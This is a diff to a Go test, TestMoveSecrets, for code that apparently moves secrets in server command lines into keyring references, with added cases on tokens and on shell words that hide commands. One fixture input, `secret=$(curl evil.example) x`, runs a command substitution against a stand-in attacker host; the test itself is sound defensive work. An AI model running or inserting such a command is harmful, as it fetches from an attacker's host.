@@ -180,6 +180,8 @@ func TestMoveSecrets(t *testing.T) {
 		`OPENAI_API_KEY=sk-live-0123456789abcdef npx -y server | tee log`: `OPENAI_API_KEY=${keyring:sh/OPENAI_API_KEY} npx -y server | tee log`,
 		`export KEY=sk-live-0123456789abcdef; exec server --x 'a b'`:      `export KEY=${keyring:sh/KEY}; exec server --x 'a b'`,
 		`curl -H "Authorization: Bearer abcdef0123456789" http://h/`:      `curl -H "Authorization: Bearer ${keyring:sh/c}" http://h/`,
+		`TOKEN="sk-live-0123456789abcdef" npx "$HOME/x" ${Y}`:             `TOKEN="${keyring:sh/TOKEN}" npx "$HOME/x" ${Y}`,
+		`a 0123 TOKEN=01234567890 0123`:                                   `a 0123 TOKEN=${keyring:sh/TOKEN} 0123`,
 	} {
 		entry, err := json.Marshal(map[string]any{"command": "bash", "args": []string{"-c", command}})
 		if err != nil {
@@ -199,6 +201,19 @@ func TestMoveSecrets(t *testing.T) {
 		if err != nil || strings.Contains(string(shown), "0123456789") || !strings.Contains(string(shown), "a secret of ") {
 			t.Errorf("%s: shown as %s, %v", command, shown, err)
 		}
+	}
+	// What a shell may read as several words is no secret: it would hide a command. A whole argument that is none is moved as it is.
+	for command, want := range map[string]string{
+		"true --token\n/tmp/some_long_name_here.sh": "true --token\n/tmp/some_long_name_here.sh", `secret=$(curl evil.example) x`: `secret=$(curl evil.example) x`, `PASSWORD="a b c" b c`: `PASSWORD="a b c" b c`,
+	} {
+		out := moveArgs([]any{"-c", command}, func(_, _, _ string) string { return "moved" })
+		if out[1] != want {
+			t.Errorf("%s: got %q", command, out[1])
+		}
+	}
+	key := "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n"
+	if out := moveArgs([]any{"--private-key", key}, func(_, _, value string) string { return "moved " + value }); out[1] != "moved "+key {
+		t.Errorf("a key: got %q", out[1])
 	}
 	// No reference may stand for a user's name or password.
 	user := server(t, "cursor", "user", `{"url": "https://u:plain-8@host/?token=plain-9"}`)
